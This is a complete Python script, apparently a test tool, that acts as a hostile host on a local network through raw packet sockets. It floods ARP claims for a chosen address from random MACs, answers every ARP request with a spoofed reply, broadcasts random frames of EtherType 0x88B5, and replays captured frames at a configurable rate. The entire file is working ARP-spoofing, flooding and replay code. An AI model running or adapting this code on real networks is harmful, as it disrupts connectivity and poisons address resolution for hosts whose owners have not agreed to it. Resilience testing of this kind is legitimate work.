"""A hostile host on a LAN: false claims, forged frames, replies by strangers, replays.

Usage: ``attack.py KIND INTERFACE ADDRESS RATE``, until SIGTERM; then it prints how many frames it
sent. RATE is frames a second; 0 is as many as possible. KIND is one of

* ``claims``: ARP announcements of ADDRESS, each by a new MAC, requests and replies in turn;
* ``frames``: broadcasts of EtherType 0x88B5 with random content, sizes around those of real frames;
* ``replies``: a reply by an ever new MAC to each ARP probe and request for ADDRESS (RATE: none);
* ``replays``: each frame of EtherType 0x88B5 that was heard, again and again; random ones before.
"""

import random
import signal
import socket
import struct
import sys
import time

ARP, LOCAL = 0x0806, 0x88B5
EVERY = 0x0003
SOL_PACKET, PACKET_IGNORE_OUTGOING = 263, 23
BROADCAST = b"\xff" * 6
REQUEST, REPLY = 1, 2
KEPT = 64
SIZES = range(20, 200)


def new_mac(dice: random.Random) -> bytes:
    """Draw a locally administered unicast address."""
    return b"\x02" + dice.randbytes(5)


def arp(kind: int, mac: bytes, sender: bytes, to: tuple[bytes, bytes]) -> bytes:
    """Make an ARP frame (RFC 826)."""
    head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, kind)
    ethernet = to[0] + mac + struct.pack("!H", ARP)
    return ethernet + head + mac + sender + to[0] + to[1]


class Attack:
    """Sends one kind of frames from an interface."""

    def __init__(self, interface: str, address: str, rate: float) -> None:
        self._dice = random.Random()
        self._address = socket.inet_aton(address)
        self._pause = 1 / rate if rate else 0.0
        self._line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERY))
        self._line.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
        self._line.bind((interface, EVERY))
        self._heard: list[bytes] = []
        self.sent = 0

    def send(self, frame: bytes) -> None:
        """Send one frame; a full queue takes it later or never."""
        try:
            self._line.send(frame)
            self.sent += 1
        except OSError:
            time.sleep(0.001)

    def flood(self, kind: str) -> None:
        """Send at the rate, without end."""
        due = time.monotonic()
        while True:
            if kind == "replays":
                self._hear()
            self.send(self._claim() if kind == "claims" else self._frame())
            due = max(due + self._pause, time.monotonic() - 0.1)
            if due > time.monotonic():
                time.sleep(due - time.monotonic())

    def reply(self) -> None:
        """Reply to whoever looks for the address, without end."""
        while True:
            frame = self._line.recv(2048)
            if frame[12:14] != struct.pack("!H", ARP) or frame[38:42] != self._address:
                continue
            if frame[20:22] == struct.pack("!H", REQUEST):
                to = (frame[22:28], frame[28:32])
                self.send(arp(REPLY, new_mac(self._dice), self._address, to))

    def _claim(self) -> bytes:
        kind = REQUEST if self.sent % 2 else REPLY
        return arp(kind, new_mac(self._dice), self._address, (BROADCAST, self._address))

    def _frame(self) -> bytes:
        if self._heard:
            return self._dice.choice(self._heard)
        # Every second one claims a version that there is.
        size = self._dice.choice(SIZES)
        body = self._dice.choice((b"\x01", b"\x02", b"")) + self._dice.randbytes(size)
        return BROADCAST + new_mac(self._dice) + struct.pack("!H", LOCAL) + body

    def _hear(self) -> None:
        try:
            frame = self._line.recv(2048, socket.MSG_DONTWAIT)
        except BlockingIOError:
            return
        if frame[12:14] == struct.pack("!H", LOCAL) and len(self._heard) < KEPT:
            self._heard.append(frame)


def main() -> None:
    """Attack until SIGTERM, and print how many frames that were."""
    kind, interface, address, rate = sys.argv[1:]
    attack = Attack(interface, address, float(rate))

    def end(*_: object) -> None:
        print(attack.sent, flush=True)
        sys.exit()

    signal.signal(signal.SIGTERM, end)
    print("attacking", flush=True)
    if kind == "replies":
        attack.reply()
    attack.flood(kind)


if __name__ == "__main__":
    main()
